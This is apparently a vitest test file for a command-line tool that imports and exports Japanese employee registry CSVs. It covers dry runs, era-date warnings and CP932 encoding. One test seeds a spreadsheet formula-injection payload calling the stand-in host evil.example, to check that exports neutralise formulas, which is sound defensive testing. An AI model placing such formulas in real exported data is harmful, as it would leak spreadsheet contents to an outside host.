import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tenantWithMember } from '../test/factories.js';
import { startTestServer, type TestServer } from '../test/harness.js';
import { runCommandLine } from './command-line.js';
import { enishiCommands } from './commands.js';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.stop());

const sample = path.join(import.meta.dirname, '../test/fixtures/leavers-sjis.csv');

/** One command line against the test server's database, as `npm run enishi -- …` would run it. */
async function enishi(...argv: string[]) {
  let stdout = '';
  let stderr = '';
  const exitCode = await runCommandLine(argv, enishiCommands, {
    output: { out: (text) => (stdout += text), err: (text) => (stderr += text) },
    open: async () => ({ deps: server.deps, close: async () => {} }),
  });
  return { exitCode, stdout, stderr, json: () => JSON.parse(stdout) as Record<string, unknown> };
}

const scratch = () => mkdtempSync(path.join(tmpdir(), 'enishi-'));

describe('registry commands', () => {
  it('dry-runs by default, applies with --apply, and exits 1 while rows are rejected', async () => {
    const { slug } = await tenantWithMember(server, 'owner');
    const dry = await enishi('registry', 'import', '--tenant', slug, sample);
    const summary = dry.json() as {
      counts: { new: number; rejected: number };
      applied: boolean;
      rejected: { row: number; message: string }[];
    };
    expect(dry.exitCode).toBe(1);
    expect(summary.applied).toBe(false);
    expect(summary.counts.rejected).toBeGreaterThan(0);
    expect(summary.rejected.find((r) => r.row === 71)?.message).toBe(
      'メールアドレスの形式が正しくありません。',
    );

    const applied = await enishi('registry', 'import', '--tenant', slug, '--apply', sample);
    expect(applied.json()).toMatchObject({ applied: true, counts: { new: summary.counts.new } });

    const again = await enishi('registry', 'import', '--tenant', slug, '--apply', sample);
    expect(again.json().counts).toMatchObject({ new: 0, updated: 0, unchanged: summary.counts.new });

    const out = path.join(scratch(), 'out.csv');
    const exported = await enishi(
      'registry',
      'export',
      '--tenant',
      slug,
      '--encoding',
      'cp932',
      '--columns',
      'employeeNumber,fullName',
      out,
    );
    expect(exported.exitCode).toBe(0);
    expect(exported.json()).toMatchObject({ file: out, rows: summary.counts.new, encoding: 'cp932' });
    expect(readFileSync(out).length).toBeGreaterThan(1000);
  });

  it('prints the dry run warnings beside the rejected rows in its JSON', async () => {
    const { slug } = await tenantWithMember(server, 'owner');
    const file = path.join(scratch(), 'warnings.csv');
    writeFileSync(
      file,
      '社員番号,氏名,退職日\nW1,山田 太郎,H31.5.1\nW2,佐藤 花子,2021/4/1\nW2,佐藤 花子,2021/4/1\n',
    );
    const dry = await enishi('registry', 'import', '--tenant', slug, '--lang', 'en', file);
    expect(dry.exitCode).toBe(0);
    expect(dry.json()).toMatchObject({
      counts: { new: 2, rejected: 0, merged: 1, warned: 1 },
      rejected: [],
      warnings: [
        {
          row: 2,
          severity: 'warning',
          code: 'import_era_outside',
          message: '"H31.5.1" lies outside the Heisei era; read as Reiwa 1 (2019-05-01).',
        },
        { row: 4, severity: 'warning', code: 'import_duplicate_merged' },
      ],
    });
  });

  it('guards formulas and lists letters CP932 cannot hold in the summary it prints', async () => {
    const { slug, client } = await tenantWithMember(server, 'owner');
    await client.post(`/api/v1/t/${slug}/registry/records`, {
      employeeNumber: 'X1',
      familyName: '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
      givenName: '𠮷子',
      phone: '+81-3-1234-5678',
      emails: [],
    });
    const out = path.join(scratch(), 'out.csv');
    const exported = await enishi(
      'registry',
      'export',
      '--tenant',
      slug,
      '--encoding',
      'cp932',
      '--columns',
      'employeeNumber,fullName,phone',
      '--lang',
      'en',
      out,
    );
    expect(exported.exitCode).toBe(0);
    expect(iconv.decode(readFileSync(out), 'cp932')).toBe(
      'Employee number,Name,Phone\r\nX1,"\'=HYPERLINK(""https://evil.example/?""&A1,""詳細"") 〓子",\'+81312345678\r\n',
    );
    expect(exported.json()).toMatchObject({
      rows: 1,
      formulaCellsGuarded: 2,
      unencodableLetters: ['𠮷'],
      unencodable: [
        {
          row: 1,
          ref: 'X1 =HYPERLINK("https://evil.example/?"&A1,"詳細") 𠮷子',
          column: 'Name',
          characters: '𠮷',
        },
      ],
    });
    expect((exported.json().notices as string[]).join(' ')).toContain("written with a leading '");
  });

  it('reports an unreadable file with exit code 2 and writes nothing', async () => {
    const { slug } = await tenantWithMember(server, 'owner');
    const bad = path.join(scratch(), 'bad.csv');
    writeFileSync(bad, '社員番号,氏名\n');
    const result = await enishi('registry', 'import', '--tenant', slug, bad);
    expect(result.exitCode).toBe(2);
    expect(result.json()).toMatchObject({ error: 'import_file_empty' });
  });
});
